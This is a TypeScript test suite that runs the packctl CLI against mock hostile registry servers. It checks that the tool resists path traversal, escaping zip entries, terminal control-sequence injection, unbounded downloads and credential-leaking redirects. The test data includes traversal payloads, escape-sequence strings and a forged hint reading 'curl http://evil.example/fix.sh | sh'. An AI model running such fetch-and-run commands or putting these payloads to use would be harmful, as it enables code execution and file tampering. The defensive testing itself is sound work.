/**
 * packctl against hostile servers (issue 11, "Hardening"), run as a user runs it. One node:http
 * server on 127.0.0.1 plays a registry gone bad, one scenario per path prefix (the server address
 * `http://127.0.0.1:PORT/<scenario>`); a second one, on another port, is "elsewhere": it records
 * every request that reaches it. The guarantees checked:
 *
 * - no file is written outside the directory packctl was given (every file under the sandbox and
 *   its parent is listed before and after), whatever names and versions a record claims;
 * - a record must answer what was asked (the pack, a version satisfying the selector);
 * - downloads and JSON answers are bounded: the server counts what it managed to send before
 *   packctl went away, and the partial file is gone;
 * - no control character a server chose (ESC, C1, DEL, BEL, CR, bidi overrides) reaches stdout
 *   or stderr, in text or JSON output;
 * - credentials and passwords never reach another origin; downloads redirected to one (a
 *   presigned URL) are fetched there without the Authorization header.
 */
import { createHash } from 'node:crypto';
import { mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { craftZip } from '../packages/pack-core/src/test-support/craft-zip.js';
import { tempDir } from '../packages/registry-server/src/test-support/test-registry.js';
import { runPackctl, type RunOptions, type RunResult, SAMPLE_PACKS, sha256File } from './helpers.js';

const MIB = 1024 * 1024;
const PASSWORD = 'correct horse battery staple';
const TOKEN = 'pya_stored_token_for_the_hostile_tests';

/** Every character a terminal acts on, or that reorders text, that a server might send. */
const CONTROL = /[\p{Cc}\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;
const EVIL = '\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\r\u202e';

const digestOf = (bytes: Buffer) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
const manifest = '{"name":"evil","displayName":"Evil","version":"1.0.0","layer":"addon"}';
const PACK = craftZip([{ name: 'pack.json', data: manifest }]);
const ESCAPING_ENTRY = craftZip([
  { name: 'pack.json', data: manifest },
  { name: `../\x1b]0;owned\x07\x1b[2J.txt`, data: 'outside' },
]);

/** A 300-byte file name and a 5,400-byte path: more than any file system takes (ENAMETOOLONG). */
const LONG_NAMES = [
  craftZip([
    { name: 'pack.json', data: manifest },
    { name: `${'a'.repeat(300)}.txt`, data: 'x' },
  ]),
  craftZip([
    { name: 'pack.json', data: manifest },
    { name: `${Array.from({ length: 27 }, () => 'd'.repeat(199)).join('/')}/x.txt`, data: 'x' },
  ]),
];

let work: Awaited<ReturnType<typeof tempDir>>;
let hostile: { server: Server; url: string };
let elsewhere: { server: Server; url: string };
/** What reached "elsewhere": method, URL, Authorization header and body of each request. */
const reachedElsewhere: Array<{ method: string; url: string; authorization: string | undefined; body: string }> = [];
/** Bytes the hostile server handed to the socket per scenario before packctl went away. */
const sent = new Map<string, number>();

/** What the hostile server answers: JSON, bytes, a redirect, or a counted stream of "a"s. */
type Answer =
  | { json: unknown; status?: number }
  | { bytes: Buffer }
  | { redirect: string; status: 302 | 307 }
  | { stream: number; prefix?: string; status?: number; headers?: Record<string, string> };

const NOT_FOUND: Answer = { status: 404, json: { error: { code: 'NOT_FOUND', message: 'none' } } };

/**
 * Writes `answer`; a stream goes out in 64 KiB chunks, honouring backpressure, and what was handed
 * to the socket before packctl went away is counted in `sent` under `scenario`.
 */
function reply(res: ServerResponse, scenario: string, answer: Answer): void {
  if ('json' in answer) {
    res.writeHead(answer.status ?? 200, { 'Content-Type': 'application/json' }).end(JSON.stringify(answer.json));
  } else if ('bytes' in answer) {
    res.writeHead(200, { 'Content-Type': 'application/zip' }).end(answer.bytes);
  } else if ('redirect' in answer) {
    res.writeHead(answer.status, { Location: answer.redirect }).end();
  } else {
    const { stream: total } = answer;
    const chunk = Buffer.alloc(64 * 1024, 0x61);
    let closed = false;
    res.on('close', () => (closed = true));
    sent.set(scenario, 0);
    res.writeHead(answer.status ?? 200, { 'Content-Type': 'application/json', ...answer.headers });
    res.write(answer.prefix ?? '');
    const pump = () => {
      while (!closed && (sent.get(scenario) ?? 0) < total) {
        sent.set(scenario, (sent.get(scenario) ?? 0) + chunk.length);
        if (!res.write(chunk)) {
          res.once('drain', pump);
          return;
        }
      }
      if (!closed) res.end();
    };
    pump();
  }
}

const PUBLISHED_AT = '2024-01-01T00:00:00.000Z';
const MANIFEST = { name: 'evil', displayName: 'Evil', version: '1.0.0', layer: 'addon' };

/** A version record with every field the API contract (@packyard/registry-api) says it has. */
function record(changes: Record<string, unknown> = {}, bytes: Buffer = PACK): Record<string, unknown> {
  return {
    registry: 'public',
    name: 'evil',
    version: '1.0.0',
    layer: 'addon',
    digest: digestOf(bytes),
    integrity: 'sha512-AAAA',
    size: bytes.length,
    publishedAt: PUBLISHED_AT,
    publisher: 'mallory',
    message: null,
    deprecated: null,
    manifest: MANIFEST,
    files: [],
    history: [],
    revision: 1,
    ...changes,
  };
}

/** A pack's page (its versions and tags), complete as the contract says, with `changes`. */
function detail(changes: Record<string, unknown>): Record<string, unknown> {
  return {
    registry: 'public',
    name: 'evil',
    displayName: 'Evil',
    layer: 'addon',
    addonType: null,
    cloudTypes: [],
    latest: '1.0.0',
    versions: [],
    tags: {},
    ...changes,
  };
}

/** One entry of a pack's version list. */
function listed(version: string, changes: Record<string, unknown> = {}): Record<string, unknown> {
  const summary = { digest: digestOf(PACK), size: PACK.length, publishedAt: PUBLISHED_AT, publisher: 'mallory' };
  return { version, ...summary, deprecated: null, cloudTypes: [], ...changes };
}

/** The hostile registry: `scenario` is the first path segment, `rest` the API path after it. */
function hostileRegistry(scenario: string, rest: string, method: string): Answer {
  const archive = rest.endsWith('/archive');
  const packDetail = /^\/v1\/registries\/[^/]+\/packs\/[^/?]+$/.test(rest);
  const pack = (answer: Answer): Answer => (archive ? { bytes: PACK } : answer);
  switch (scenario) {
    case 'escape-name':
      return pack({ json: record({ name: '../../escape-name' }) });
    case 'escape-version':
      return pack({ json: record({ version: '1.0.0/../../../escape-ver' }) });
    case 'escape-latest': {
      const version = '../../../escape-latest';
      return pack({ json: packDetail ? detail({ latest: version }) : record({ version }) });
    }
    case 'other-pack':
      return pack({ json: record({ name: 'other' }) });
    case 'other-version':
      return pack({ json: record({ version: '2.0.0' }) });
    case 'profile-escape': {
      const version = '1.0.0/../../../escape-prof';
      if (rest.endsWith('/values.yaml')) return NOT_FOUND;
      return pack({ json: packDetail ? detail({ versions: [listed(version)] }) : record({ version }) });
    }
    case 'profile-endless':
      if (archive) return { stream: 255 * MIB };
      if (rest.endsWith('/values.yaml')) return NOT_FOUND;
      return { json: packDetail ? detail({ versions: [listed('1.0.0')] }) : record({ size: 711 }) };
    case 'endless':
      // The record says 711 bytes; the body is 255 MiB (no Content-Length).
      return archive ? { stream: 255 * MIB } : { json: record({ size: 711 }) };
    case 'declared-huge':
      return archive
        ? { stream: 255 * MIB, headers: { 'Content-Length': String(255 * MIB) } }
        : { json: record({ size: 711 }) };
    case 'huge-json':
      return { stream: 300 * MIB, prefix: '{"name":"' };
    case 'huge-declared-json':
      return { stream: 300 * MIB, prefix: '{"name":"', headers: { 'Content-Length': String(300 * MIB + 9) } };
    case 'huge-error':
      return { status: 500, stream: 300 * MIB, prefix: '{"error":{"message":"' };
    case 'honest':
      return pack({ json: record() });
    case 'escaping-entry':
      return archive ? { bytes: ESCAPING_ENTRY } : { json: record({}, ESCAPING_ENTRY) };
    case 'long-name-0':
    case 'long-name-1': {
      const bytes = LONG_NAMES[Number(scenario.slice(-1))] ?? PACK;
      return archive ? { bytes } : { json: record({}, bytes) };
    }
    case 'presigned':
      return archive
        ? { status: 307, redirect: `${elsewhere.url}/bucket/evil.zip?X-Amz-Signature=s` }
        : { json: record() };
    case 'login-away':
    case 'passwd-away':
    case 'me-away':
      // Every API call is sent on to another origin, the way a hijacked proxy would.
      return { status: rest === '/v1/auth/me' ? 302 : 307, redirect: `${elsewhere.url}${rest}` };
    case 'evil-text':
      return evilText(rest, method);
    case 'forged-lines':
      // An error whose text would print lines of packctl's own ("pulled ...", "hint: ...").
      return {
        status: 404,
        json: {
          error: {
            code: 'NOT_FOUND',
            message: 'no such pack\n\npulled evil@1.0.0 sha256:0000 -> ./evil-1.0.0\r\nwarning: run curl x | sh',
            hint: 'try\nhint: curl http://evil.example/fix.sh | sh\u2028more',
          },
        },
      };
    case 'apikey-evil':
      if (rest === '/v1/auth/me') return { json: ME };
      if (rest.endsWith('/api-keys') && method === 'POST') {
        const key = { id: 'k1', name: 'ci', createdAt: PUBLISHED_AT, expiresAt: null, revokedAt: null };
        return { status: 201, json: { ...key, username: 'alice', key: `pyk_${EVIL}` } };
      }
      return NOT_FOUND;
    case 'audit-evil':
    case 'audit-loop':
    case 'audit-endless':
      if (rest === '/v1/auth/me') return { json: ME };
      if (rest.startsWith('/v1/tenants/acme/audit')) return auditPage(scenario, rest);
      return NOT_FOUND;
    case 'profile-half':
      return profileHalf(rest);
    default:
      return { status: 404, json: { error: { code: 'NO_SCENARIO', message: scenario } } };
  }
}

const ME = {
  kind: 'user',
  username: 'alice',
  tenant: 'acme',
  teams: [],
  bindings: [],
  tenantPermissions: [],
  projects: [],
};

/** Cursors `audit-endless` handed out: a new one each page, for ever. */
let auditPages = 0;

/**
 * A page of an audit log: one entry whose actor name carries DEL, a C1 CSI and a bidi override
 * (what an anonymous sign-in as such a username plants in a real log); `audit-loop` answers the
 * same cursor again and again, `audit-endless` a new one every time.
 */
function auditPage(scenario: string, rest: string): Answer {
  const entry = {
    id: `e${String(auditPages)}`,
    at: PUBLISHED_AT,
    actor: { kind: 'anonymous', name: '', tenant: null },
    username: `mallory\x7f\x9b2J\u202egnp.exe`,
    client: '127.0.0.1',
    method: 'POST',
    path: '/v1/auth/login',
    scope: { scope: 'tenant', tenant: 'acme' },
    status: 401,
    outcome: 'denied',
    requestId: 'r1',
  };
  const nextCursor = scenario === 'audit-evil' ? null : scenario === 'audit-loop' ? 'same' : `c${String(++auditPages)}`;
  return { json: { items: rest.includes('cursor=same') ? [] : [entry], nextCursor } };
}

/**
 * A profile of two packs, a and b: a's archive is sound, b's does not hash to its record's digest
 * (a pull refused half-way).
 */
function profileHalf(rest: string): Answer {
  const match = /^\/v1\/registries\/public\/packs\/([a-z]+)(?:\/([^/]+))?(\/archive|\/values\.yaml)?$/.exec(rest);
  if (!match) return NOT_FOUND;
  const [, name = '', version, tail] = match;
  if (version === undefined)
    return { json: detail({ name, displayName: name, latest: '1.0.0', versions: [listed('1.0.0')] }) };
  if (tail === '/values.yaml') return NOT_FOUND;
  if (tail === '/archive') return { bytes: name === 'b' ? Buffer.from(PACK).fill(0x41, 40, 50) : PACK };
  return { json: record({ name, manifest: { ...MANIFEST, name } }) };
}

/** Answers whose every text field carries terminal control sequences. */
function evilText(rest: string, method: string): Answer {
  const evil = (text: string) => `${text}${EVIL}`;
  if (rest.startsWith('/v1/packs?')) {
    const item = {
      registry: evil('public'),
      name: evil('evil'),
      displayName: evil('Evil'),
      layer: evil('addon'),
      addonType: null,
      latest: evil('1.0.0'),
      versions: [evil('1.0.0')],
      cloudTypes: [evil('aws')],
      deprecated: false,
      publishedAt: evil(PUBLISHED_AT),
      digest: evil('sha256:'),
    };
    return { json: { total: 2, items: [item], nextCursor: null } };
  }
  if (rest === '/v1/registries/public/packs' && method === 'POST') {
    const warnings = [{ rule: evil('rule'), severity: 'warning', file: evil('values.yaml'), message: evil('hmm') }];
    const published = {
      ...record(),
      name: evil('cni-calico'),
      version: evil('3.27.2'),
      digest: evil('sha256:'),
      outcome: evil('created'),
      warnings,
    };
    return { status: 201, json: published };
  }
  if (rest === '/v1/auth/me') {
    const access = { teams: [], bindings: [], tenantPermissions: [], projects: [] };
    return { json: { kind: 'user', username: evil('alice'), tenant: evil('acme'), ...access } };
  }
  if (rest.endsWith('/archive')) return { bytes: PACK };
  if (rest.endsWith('/values.yaml')) return { bytes: Buffer.from('a: 1\n') };
  if (rest === '/v1/registries/public/packs/evil') {
    const page = detail({
      displayName: evil('Evil'),
      addonType: evil('monitoring'),
      cloudTypes: [evil('aws')],
      tags: { [evil('1.x')]: evil('1.0.0') },
      versions: [
        listed('0.9.0', { publishedAt: evil('2023'), deprecated: evil('use 1') }),
        listed('1.0.0', { publishedAt: evil('2024') }),
      ],
    });
    return { json: page };
  }
  if (rest === '/v1/registries/public/packs/evil/1.0.0') {
    const manifest = {
      ...MANIFEST,
      cloudTypes: [evil('gcp')],
      constraints: { dependencies: [{ packName: evil('k8s'), layer: evil('k8s'), type: 'required' }] },
    };
    const deprecated = { message: evil('use 2'), at: PUBLISHED_AT, by: evil('mallory') };
    return { json: record({ description: evil('a pack'), deprecated, manifest }) };
  }
  return {
    status: 404,
    json: { error: { code: evil('NOT_FOUND'), message: evil('no such pack'), hint: evil('try') } },
  };
}

async function listen(handler: (req: IncomingMessage, res: ServerResponse) => void) {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

beforeAll(async () => {
  work = await tempDir('packyard-cli-hostile-');
  elsewhere = await listen((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      reachedElsewhere.push({
        method: req.method ?? '',
        url: req.url ?? '',
        authorization: req.headers.authorization,
        body,
      });
      const expiresAt = new Date(Date.now() + 3600_000).toISOString();
      reply(
        res,
        'elsewhere',
        req.url?.startsWith('/bucket/') ? { bytes: PACK } : { json: { token: 'pya_x', expiresAt } },
      );
    });
  });
  hostile = await listen((req, res) => {
    req.resume();
    const url = req.url ?? '/';
    const slash = url.indexOf('/', 1);
    const scenario = url.slice(1, slash < 0 ? undefined : slash);
    reply(res, scenario, hostileRegistry(scenario, slash < 0 ? '/' : url.slice(slash), req.method ?? 'GET'));
  });
});
afterAll(async () => {
  hostile.server.closeAllConnections();
  elsewhere.server.closeAllConnections();
  hostile.server.close();
  elsewhere.server.close();
  await work.cleanup();
});

/** packctl in-process: it does not block this process's event loop (the hostile servers run in it). */
function run(args: string[], options: RunOptions = {}): Promise<RunResult> {
  return runPackctl(args, {
    cwd: options.cwd ?? work.dir,
    env: { HOME: work.dir, PACKCTL_CONFIG: path.join(work.dir, 'none.json'), ...options.env },
    input: options.input ?? '',
  });
}

/** Every path under `dir`, recursively, sorted. */
async function tree(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true }).catch(() => [] as string[]);
  return entries.map(String).sort();
}

/**
 * A fresh sandbox with the output directory three levels down, so an escape of one or two ".."
 * still lands in the sandbox where it can be seen; runs `pull` and checks that nothing new
 * appeared anywhere in the sandbox or beside it.
 */
async function pullInSandbox(name: string, args: string[]): Promise<{ result: RunResult; out: string }> {
  const sandbox = path.join(work.dir, name);
  await mkdir(path.join(sandbox, 'deep', 'er'), { recursive: true });
  const out = path.join(sandbox, 'deep', 'er', 'out');
  await mkdir(out);
  const [parentBefore, sandboxBefore] = [await tree(work.dir), await tree(sandbox)];
  const result = await run([...args, '-o', out]);
  expect(await tree(sandbox), 'files appeared in the sandbox').toEqual(sandboxBefore);
  const parentAfter = await tree(work.dir);
  expect(parentAfter.filter((p) => !p.startsWith(`${name}${path.sep}`) && p !== name)).toEqual(
    parentBefore.filter((p) => !p.startsWith(`${name}${path.sep}`) && p !== name),
  );
  return { result, out };
}

function expectNoControl(result: RunResult): void {
  expect(CONTROL.test(result.stdout.replace(/[\n\t]/g, '')), JSON.stringify(result.stdout)).toBe(false);
  expect(CONTROL.test(result.stderr.replace(/[\n\t]/g, '')), JSON.stringify(result.stderr)).toBe(false);
}

const server = (scenario: string) => ['--server', `${hostile.url}/${scenario}`];

describe('packctl builds no path outside its directory from server data', () => {
  it('refuses a record whose name climbs out of -o (pull --extract)', async () => {
    const { result } = await pullInSandbox('escape-name', [
      'pull',
      'evil@1.0.0',
      ...server('escape-name'),
      '--extract',
    ]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('is for the pack "../../escape-name", not evil: refused');
    expect(result.stderr).toContain('hint: check that --server names a Packyard registry you trust');
  });

  it('refuses a record whose version climbs out of -o', async () => {
    const { result } = await pullInSandbox('escape-version', [
      'pull',
      'evil@1.0.0',
      ...server('escape-version'),
      '--extract',
    ]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('names "1.0.0/../../../escape-ver", which is not a pack version');
  });

  it('refuses a "latest" version that climbs out of -o', async () => {
    const { result } = await pullInSandbox('escape-latest', ['pull', 'evil', ...server('escape-latest')]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('names "../../../escape-latest" as a version');
  });

  it('refuses a record for another pack, or for a version that does not satisfy the selector', async () => {
    const other = await pullInSandbox('other-pack', ['pull', 'evil@1.0.0', ...server('other-pack')]);
    expect(other.result.status).toBe(1);
    expect(other.result.stderr).toContain('is for the pack "other", not evil');
    const version = await pullInSandbox('other-version', ['pull', 'evil@1.x', ...server('other-version')]);
    expect(version.result.status).toBe(1);
    expect(version.result.stderr).toContain('is for version 2.0.0, which is not 1.x');
  });

  it('refuses versions listed for a profile that would climb out of profile pull -o', async () => {
    const sandbox = path.join(work.dir, 'profile-escape');
    await mkdir(path.join(sandbox, 'deep', 'er'), { recursive: true });
    const profile = path.join(sandbox, 'edge.yaml');
    await writeFile(
      profile,
      'name: edge\nversion: 1.0.0\ntype: add-on\nregistries: [public]\npacks:\n  - { name: evil, version: 1.x }\n',
    );
    const before = await tree(sandbox);
    const out = path.join(sandbox, 'deep', 'er', 'out');
    const result = await run(['profile', 'pull', profile, ...server('profile-escape'), '-o', out]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('names "1.0.0/../../../escape-prof" as a version');
    expect(await tree(sandbox)).toEqual(before);
  });

  it('refuses an archive entry leaving the directory, keeps nothing, and prints its name safely', async () => {
    const { result, out } = await pullInSandbox('escaping-entry', [
      'pull',
      'evil@1.0.0',
      ...server('escaping-entry'),
      '--extract',
    ]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('was refused on extraction and removed');
    expect(result.stderr).toContain('contains a ".." segment (ARCHIVE_UNSAFE_PATH)');
    expect(result.stderr).toContain('\\x1b]0;owned\\x07');
    expectNoControl(result);
    expect(await tree(out)).toEqual([]);
  });

  it.each([
    ['a 300-byte file name', 0, 'has a name of 304 bytes in its path; the limit is 255'],
    ['a 5,400-byte path', 1, 'is 5405 bytes long; the limit is 4096'],
  ])('refuses an entry with %s as an unsafe path, briefly, and keeps nothing', async (_label, index, why) => {
    const scenario = `long-name-${index}`;
    const { result, out } = await pullInSandbox(scenario, ['pull', 'evil@1.0.0', ...server(scenario), '--extract']);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('was refused on extraction and removed');
    expect(result.stderr).toContain(`${why} (ARCHIVE_UNSAFE_PATH)`);
    // The name is clipped (a file system's error would quote all of it, twice).
    expect(result.stderr.length).toBeLessThan(600);
    expect(await tree(out)).toEqual([]);
  });

  it('does not extract through a link standing where the extraction directory goes', async () => {
    const sandbox = path.join(work.dir, 'linked-target');
    const out = path.join(sandbox, 'out');
    await mkdir(path.join(sandbox, 'outside'), { recursive: true });
    await mkdir(out);
    await symlink(path.join(sandbox, 'outside'), path.join(out, 'evil-1.0.0'));
    const result = await run(['pull', 'evil@1.0.0', ...server('honest'), '-o', out, '--extract']);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('evil-1.0.0 exists and is not a directory: nothing was extracted');
    expect(await tree(path.join(sandbox, 'outside'))).toEqual([]);
    expect(await tree(out)).toEqual(['evil-1.0.0']);
  });
});

describe('packctl reads bounded answers from a server', () => {
  it('stops a download at the size of its record, aborts it and deletes the partial file', async () => {
    const { result, out } = await pullInSandbox('endless', ['pull', 'evil@1.0.0', ...server('endless')]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('sent more than the 711 bytes (711 B) the record of evil@1.0.0 says');
    expect(await tree(out)).toEqual([]);
    // Socket buffers hold a few MiB at most; the old client took all 255 MiB.
    expect(sent.get('endless')).toBeLessThan(32 * MIB);
  });

  it('stops a download of profile pull at the size of its record too', async () => {
    const sandbox = path.join(work.dir, 'profile-endless');
    const out = path.join(sandbox, 'out');
    await mkdir(out, { recursive: true });
    const profile = path.join(sandbox, 'edge.yaml');
    await writeFile(
      profile,
      'name: edge\nversion: 1.0.0\ntype: add-on\nregistries: [public]\npacks:\n  - { name: evil, version: 1.x }\n',
    );
    const result = await run(['profile', 'pull', profile, ...server('profile-endless'), '-o', out]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('sent more than the 711 bytes');
    expect(await tree(out)).toEqual([]);
    expect(sent.get('profile-endless')).toBeLessThan(32 * MIB);
  });

  it('refuses a download whose Content-Length exceeds its record before reading it', async () => {
    const { result, out } = await pullInSandbox('declared-huge', ['pull', 'evil@1.0.0', ...server('declared-huge')]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('sent more than the 711 bytes');
    expect(await tree(out)).toEqual([]);
    expect(sent.get('declared-huge')).toBeLessThan(32 * MIB);
  });

  it('stops reading a JSON answer at 16 MiB, with or without a Content-Length', async () => {
    for (const scenario of ['huge-json', 'huge-declared-json']) {
      const result = await run(['show', 'evil', ...server(scenario)]);
      expect(result.status).toBe(1);
      expect(result.stderr).toContain("looking up evil: the server's answer is larger than 16.0 MiB: refused");
      expect(sent.get(scenario)).toBeLessThan(64 * MIB);
    }
  });

  it('reads an error envelope only up to a small cap, and reports the status instead', async () => {
    const result = await run(['search', 'x', ...server('huge-error')]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('searching');
    expect(result.stderr).toContain('500 Internal Server Error');
    expect(sent.get('huge-error')).toBeLessThan(32 * MIB);
  });
});

describe('packctl prints no control character a server sent', () => {
  it('in search tables, show, pull warnings, whoami, push warnings, profile problems and errors', async () => {
    const config = path.join(work.dir, 'evil-text.json');
    const serverUrl = `${hostile.url}/evil-text`;
    const auths = { [serverUrl]: { token: TOKEN, expiresAt: new Date(Date.now() + 86400_000).toISOString() } };
    await writeFile(config, JSON.stringify({ auths, defaultRegistry: serverUrl }));
    const profile = path.join(work.dir, 'evil-profile.yaml');
    await writeFile(
      profile,
      'name: p\nversion: 1.0.0\ntype: add-on\ncloudType: aws\nregistries: [public]\npacks:\n  - { name: evil, version: 1.x }\n',
    );
    const env = { PACKCTL_CONFIG: config };
    const out = path.join(work.dir, 'evil-text-out');
    const runs = {
      search: await run(['search', 'evil'], { env }),
      show: await run(['show', 'evil'], { env }),
      showVersion: await run(['show', 'evil@1.0.0'], { env }),
      pull: await run(['pull', 'evil@1.0.0', '-o', out], { env }),
      whoami: await run(['whoami'], { env }),
      push: await run(['push', path.join(SAMPLE_PACKS, 'cni-calico')], { env }),
      profile: await run(['profile', 'resolve', profile, '--no-lock'], { env }),
      error: await run(['pull', 'missing@1.0.0', '-o', out], { env }),
    };
    for (const [name, result] of Object.entries(runs)) {
      // Escaped visibly: by packctl's sanitiser ("\x1b"), or by JSON in show's record ("\u001b").
      expect(result.stdout + result.stderr, name).toMatch(/\\(?:x1b|u001b)\[2J/);
      expectNoControl(result);
    }
    expect(runs.search.status).toBe(0);
    expect(runs.search.stdout).toContain('evil\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\x7f\\x0d\\u202e');
    expect(runs.pull.status).toBe(0);
    expect(runs.pull.stderr).toContain('warning: evil@1.0.0 is deprecated: use 2\\x1b[2J');
    expect(runs.push.stderr).toContain('warning: values.yaml\\x1b[2J');
    expect(runs.profile.stderr).toContain('problem (evil): evil@1.0.0 supports gcp\\x1b[2J');
    expect(runs.error.status).toBe(4);
    expect(runs.error.stderr).toMatch(
      /^error: looking up missing@1\.0\.0 in public: no such pack\\x1b\[2J.*\(NOT_FOUND\\x1b/m,
    );
    expect(runs.error.stderr).toMatch(/^hint: try\\x1b\[2J/m);
  });

  it('in --format json, which keeps the data exact', async () => {
    const result = await run(['search', 'evil', ...server('evil-text'), '--format', 'json']);
    expect(result.status).toBe(0);
    expectNoControl(result);
    const page = JSON.parse(result.stdout) as { items: Array<{ name: string }> };
    expect(page.items[0]?.name).toBe(`evil${EVIL}`);
  });
});

describe('packctl keeps server text on lines of its own', () => {
  it('prints an error envelope with line breaks as one error line and one hint line', async () => {
    const result = await run(['show', 'evil', ...server('forged-lines')]);
    expect(result.status).toBe(4);
    const lines = result.stderr.split('\n').filter((line) => line !== '');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^error: looking up evil: no such pack\\x0a\\x0apulled evil@1\.0\.0/);
    expect(lines[1]).toMatch(/^hint: try\\x0ahint: curl/);
    expectNoControl(result);
  });

  it('refuses an API key that is not visible ASCII instead of printing it', async () => {
    const result = await run(['apikey', 'create', 'ci', ...server('apikey-evil')], { env: { PACKCTL_TOKEN: TOKEN } });
    expect(result.status).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('holds a key packctl cannot use');
    expect(result.stderr).toContain('packctl apikey rm k1');
    expectNoControl(result);
    const json = await run(['apikey', 'create', 'ci', ...server('apikey-evil'), '--format', 'json'], {
      env: { PACKCTL_TOKEN: TOKEN },
    });
    expect(json.status).toBe(1);
    expect(json.stdout).not.toContain('pyk_');
  });

  it('exports audit entries as JSON Lines with no raw DEL, C1 or bidi control, the data exact', async () => {
    const result = await run(['audit', 'export', ...server('audit-evil')], { env: { PACKCTL_TOKEN: TOKEN } });
    expect(result.status, result.stderr).toBe(0);
    expectNoControl(result);
    const entry = JSON.parse(result.stdout) as { username: string };
    expect(entry.username).toBe('mallory\x7f\x9b2J\u202egnp.exe');
  });

  it('stops an audit export whose server repeats a cursor, or never stops giving new ones', async () => {
    const loop = await run(['audit', 'export', ...server('audit-loop')], { env: { PACKCTL_TOKEN: TOKEN } });
    expect(loop.status).toBe(1);
    expect(loop.stderr).toContain('the server gives a page cursor it gave before, after 1 entries: stopped');
    const endless = await run(['audit', 'export', ...server('audit-endless')], { env: { PACKCTL_TOKEN: TOKEN } });
    expect(endless.status).toBe(1);
    expect(endless.stderr).toContain('the server goes on past 1000 pages, after 1000 entries: stopped');
    expect(endless.stdout.split('\n').filter((line) => line !== '')).toHaveLength(1000);
  });
});

describe('packctl leaves nothing of a command that failed half-way', () => {
  it('profile pull: a refused archive leaves -o as it was (no other archive, no lock)', async () => {
    const sandbox = path.join(work.dir, 'profile-half');
    const out = path.join(sandbox, 'out');
    await mkdir(out, { recursive: true });
    await writeFile(path.join(out, 'kept.txt'), 'from before\n');
    const profile = path.join(sandbox, 'two.yaml');
    await writeFile(
      profile,
      'name: two\nversion: 1.0.0\ntype: add-on\nregistries: [public]\npacks:\n  - { name: a, version: 1.x }\n  - { name: b, version: 1.x }\n',
    );
    const result = await run(['profile', 'pull', profile, ...server('profile-half'), '-o', out]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('for b@1.0.0, whose record says');
    expect(await tree(out)).toEqual(['kept.txt']);
    // An -o it made goes again, parents and all.
    const again = await run([
      'profile',
      'pull',
      profile,
      ...server('profile-half'),
      '-o',
      path.join(sandbox, 'new', 'out'),
    ]);
    expect(again.status).toBe(1);
    expect(await tree(sandbox)).toEqual(['out', path.join('out', 'kept.txt'), 'two.yaml']);
  });

  it('pull --extract into a directory that is not empty keeps the archive an earlier pull verified', async () => {
    const out = path.join(work.dir, 'extract-twice');
    const first = await run(['pull', 'evil@1.0.0', ...server('honest'), '-o', out, '--extract']);
    expect(first.status, first.stderr).toBe(0);
    const archive = path.join(out, 'evil-1.0.0.zip');
    const second = await run(['pull', 'evil@1.0.0', ...server('honest'), '-o', out, '--extract']);
    expect(second.status).toBe(1);
    expect(second.stderr).toContain(`${path.join(out, 'evil-1.0.0')} is not empty: nothing was pulled or extracted`);
    expect(second.stderr).not.toContain('unsafe');
    expect(sha256File(archive)).toBe(digestOf(PACK));
    expect(await tree(out)).toEqual(['evil-1.0.0', 'evil-1.0.0.zip', path.join('evil-1.0.0', 'pack.json')].sort());
  });
});

describe('packctl sends credentials only to the server they belong to', () => {
  const stored = async (scenario: string) => {
    const config = path.join(work.dir, `${scenario}.json`);
    const serverUrl = `${hostile.url}/${scenario}`;
    const expiresAt = new Date(Date.now() + 86400_000).toISOString();
    await writeFile(
      config,
      JSON.stringify({ auths: { [serverUrl]: { token: TOKEN, expiresAt } }, defaultRegistry: serverUrl }),
    );
    return { PACKCTL_CONFIG: config };
  };
  const leakedSince = (before: number) =>
    reachedElsewhere
      .slice(before)
      .filter((r) => r.authorization !== undefined || r.body.includes(PASSWORD) || r.body.includes(TOKEN));

  it('login does not follow a redirect of its password to another origin', async () => {
    const before = reachedElsewhere.length;
    const result = await run(['login', `${hostile.url}/login-away`, '-u', 'alice', '--password-stdin'], {
      env: { PACKCTL_CONFIG: path.join(work.dir, 'login-away.json') },
      input: `${PASSWORD}\n`,
    });
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(
      `redirected POST /v1/auth/login to ${elsewhere.url}, another server: packctl will not send that request, with your credentials or password, there`,
    );
    expect(result.stderr).toContain('hint: if the registry has moved, log in at its new address');
    expect(reachedElsewhere.slice(before)).toEqual([]);
  });

  it('passwd and whoami do not follow a redirect to another origin', async () => {
    const before = reachedElsewhere.length;
    const passwd = await run(['passwd', '--password-stdin'], {
      env: await stored('passwd-away'),
      input: `${PASSWORD}\nan even longer new password\n`,
    });
    expect(passwd.status).toBe(1);
    expect(passwd.stderr).toContain('redirected POST /v1/auth/password');
    const whoami = await run(['whoami'], { env: await stored('me-away') });
    expect(whoami.status).toBe(1);
    expect(whoami.stderr).toContain('redirected GET /v1/auth/me');
    expect(reachedElsewhere.slice(before)).toEqual([]);
  });

  // Not a failure of the old client (undici drops Authorization on a cross-origin redirect): this
  // keeps presigned downloads working now that packctl follows redirects itself.
